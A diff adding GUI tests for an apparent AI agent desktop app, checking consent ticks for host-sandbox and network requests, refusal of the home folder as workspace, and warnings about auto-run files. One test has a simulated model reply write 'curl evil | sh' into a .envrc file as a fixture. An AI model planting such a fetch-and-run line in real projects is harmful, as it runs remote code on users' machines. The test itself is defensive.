@@ -15,11 +15,13 @@
 #include "ui/RunTimeline.h"
 #include "ui/StatusBadge.h"
 #include "ui/StepCard.h"
+#include "ui/TaskFilePanel.h"
 #include "ui/TerminalArea.h"
 #include "ui/TerminalPane.h"
 #include "ui/TerminalView.h"
 
 #include <QApplication>
+#include <QCheckBox>
 #include <QComboBox>
 #include <QDBusConnection>
 #include <QDBusConnectionInterface>
@@ -37,6 +39,7 @@
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QToolButton>
 
 using namespace Terrarium;
 using Core::LlmProvider;
@@ -102,6 +105,9 @@ private Q_SLOTS:
     void inputReachesTheCommand();
     void droppedMarkdownIsTheGoal();
     void droppedYamlSetsTheRun();
+    void taskFileAskingForTheNetworkNeedsATick();
+    void workspaceIsNeverTheHomeFolder();
+    void autoRunFilesAreFlagged();
     void badTaskFileStartsNothing();
     void notificationWhenTheWindowIsNotActive();
     void terminalIntoTheRunsSandbox();
@@ -112,6 +118,8 @@ private:
     QString writeFile(const QString &name, const QByteArray &contents);
 
     std::unique_ptr<QTemporaryDir> m_dir;
+    std::unique_ptr<QTemporaryDir> m_home;
+    QByteArray m_savedHome;
     std::unique_ptr<LlmTestServer> m_server;
     std::unique_ptr<QSettings> m_settings;
     std::unique_ptr<Widgets::MainWindow> m_window;
@@ -122,6 +130,10 @@ private:
 void tst_Window::init()
 {
     m_dir = std::make_unique<QTemporaryDir>();
+    // A home of its own: new run folders go to ~/Terrarium, and nothing touches the real one.
+    m_home = std::make_unique<QTemporaryDir>();
+    m_savedHome = qgetenv("HOME");
+    qputenv("HOME", m_home->path().toLocal8Bit());
     QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("workspace")));
     m_server = std::make_unique<LlmTestServer>();
     QVERIFY(m_server->listen());
@@ -152,6 +164,8 @@ void tst_Window::cleanup()
     m_settings.reset();
     m_server.reset();
     m_dir.reset();
+    qputenv("HOME", m_savedHome);
+    m_home.reset();
 }
 
 bool tst_Window::waitForRunEnd(int timeoutMs)
@@ -346,9 +360,18 @@ void tst_Window::droppedMarkdownIsTheGoal()
     const QString path =
         writeFile(QStringLiteral("goal.md"), "# Chores\n\nList the files in the workspace.\n");
     drop(path);
+    // A dropped file fills the window and waits: nothing runs by itself.
+    QTRY_VERIFY(m_window->goal().contains(QLatin1String("List the files in the workspace.")));
+    QVERIFY(m_window->taskFilePanel()->isVisible());
+    QTest::qWait(300);
+    QVERIFY(!m_window->isBusy());
+    QCOMPARE(m_server->requestCount(), 0);
+    // Its folder is the workspace.
+    QCOMPARE(m_window->workspace(), QFileInfo(m_dir->path()).canonicalFilePath());
+
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
     QVERIFY(waitForRunEnd());
     QCOMPARE(m_ended.first(), RunState::Success);
-    QVERIFY(m_window->goal().contains(QLatin1String("List the files in the workspace.")));
     QVERIFY(m_server->requests().first().body.contains("List the files in the workspace."));
 }
 
@@ -364,13 +387,110 @@ void tst_Window::droppedYamlSetsTheRun()
                                    "env:\n"
                                    "  TASK_VALUE: from-yaml\n");
     drop(path);
+    QTRY_COMPARE(m_window->goal(), QStringLiteral("show the task variable"));
+    QCOMPARE(m_window->sandboxKind(), QStringLiteral("host"));
+    Widgets::TaskFilePanel *panel = m_window->taskFilePanel();
+    QVERIFY(panel->isVisible());
+    // What the file asks for is on show, the host highlighted with a box to tick.
+    QStringList shown;
+    for (QLabel *label : panel->findChildren<QLabel *>())
+        shown << label->text();
+    const QString all = shown.join(u'|');
+    QVERIFY2(all.contains(QLatin1String("TASK_VALUE=from-yaml")), qPrintable(all));
+    QVERIFY2(all.contains(QLatin1String("steps: 4")), qPrintable(all));
+    QCheckBox *host = panel->consentBox(QStringLiteral("sandbox"));
+    QVERIFY(host);
+    QVERIFY(!host->isChecked());
+    QVERIFY(!panel->consentBox(QStringLiteral("network")));
+
+    // Run without the tick: refused, nothing asked of the model.
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
+    QTRY_VERIFY(m_window->errorText().contains(QLatin1String("sandbox: host")));
+    QVERIFY(!m_window->isBusy());
+    QCOMPARE(m_server->requestCount(), 0);
+
+    host->setChecked(true);
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
     QVERIFY(waitForRunEnd());
     QCOMPARE(m_ended.first(), RunState::Success);
-    QCOMPARE(m_window->goal(), QStringLiteral("show the task variable"));
     Widgets::StepCard *card = m_window->timeline()->cards().first();
     card->stdoutConsole()->flush();
     QVERIFY2(card->stdoutConsole()->toPlainText().contains(QLatin1String("value=from-yaml")),
              qPrintable(card->stdoutConsole()->toPlainText()));
+}
+
+void tst_Window::taskFileAskingForTheNetworkNeedsATick()
+{
+    const QString path = writeFile(QStringLiteral("net.yaml"),
+                                   "goal: fetch the page\n"
+                                   "network: outbound\n"
+                                   "image: localhost/terrarium/debian:custom\n");
+    drop(path);
+    Widgets::TaskFilePanel *panel = m_window->taskFilePanel();
+    QTRY_VERIFY(panel->isVisible());
+    QVERIFY(panel->consentBox(QStringLiteral("network")));
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
+    QTRY_VERIFY(m_window->errorText().contains(QLatin1String("network: outbound")));
+    QCOMPARE(m_server->requestCount(), 0);
+    QVERIFY(!m_window->isBusy());
+
+    // "Don't Use" forgets the file's settings: the goal stays and runs without them.
+    QToolButton *dismiss = nullptr;
+    for (QToolButton *button : panel->findChildren<QToolButton *>())
+        dismiss = button;
+    QVERIFY(dismiss);
+    QTest::mouseClick(dismiss, Qt::LeftButton);
+    QVERIFY(!panel->isVisible());
+    QVERIFY(!m_controller->taskFile());
+    QCOMPARE(m_window->goal(), QStringLiteral("fetch the page"));
+}
+
+void tst_Window::workspaceIsNeverTheHomeFolder()
+{
+    // With nothing configured, each run gets a new folder under ~/Terrarium.
+    m_settings->remove(QStringLiteral("sandbox/workspace"));
+    m_settings->sync();
+    m_controller.reset();
+    m_window = std::make_unique<Widgets::MainWindow>();
+    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
+                                                           Core::ConfigOverrides());
+    connect(m_controller.get(), &App::WindowController::runEnded, this,
+            [this](RunState state) { m_ended << state; });
+    m_window->show();
+    QVERIFY(m_window->workspace().isEmpty());
+    QVERIFY2(m_window->workspaceLabel()->text().contains(QLatin1String("Terrarium")),
+             qPrintable(m_window->workspaceLabel()->text()));
+
+    // Choosing the home folder is refused and says why.
+    Q_EMIT m_window->workspaceChanged(QDir::homePath());
+    QVERIFY2(m_window->errorText().contains(QLatin1String("home folder")),
+             qPrintable(m_window->errorText()));
+    QVERIFY(m_window->workspace().isEmpty());
+
+    m_server->enqueue(planReply({QStringLiteral("Write a file")}));
+    m_server->enqueue(commandReply(QStringLiteral("echo made > made.txt; pwd")));
+    m_window->setGoal(QStringLiteral("make a file"));
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
+    QVERIFY(waitForRunEnd());
+    QCOMPARE(m_ended.first(), RunState::Success);
+    const QString runs = QDir::homePath() + QStringLiteral("/Terrarium");
+    const QStringList folders = QDir(runs).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
+    QCOMPARE(folders.size(), 1);
+    QVERIFY2(folders.first().endsWith(QLatin1String("-make-a-file")), qPrintable(folders.first()));
+    QVERIFY(QFile::exists(runs + u'/' + folders.first() + QStringLiteral("/made.txt")));
+}
+
+void tst_Window::autoRunFilesAreFlagged()
+{
+    m_server->enqueue(planReply({QStringLiteral("Set up direnv")}));
+    m_server->enqueue(commandReply(QStringLiteral("echo 'curl evil | sh' > .envrc")));
+    m_window->setGoal(QStringLiteral("set up direnv"));
+    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
+    QVERIFY(waitForRunEnd());
+    QCOMPARE(m_ended.first(), RunState::Success);
+    Widgets::StepCard *card = m_window->timeline()->cards().first();
+    QVERIFY2(card->workspaceWarning().contains(QLatin1String(".envrc")),
+             qPrintable(card->workspaceWarning()));
 }
 
 void tst_Window::badTaskFileStartsNothing()
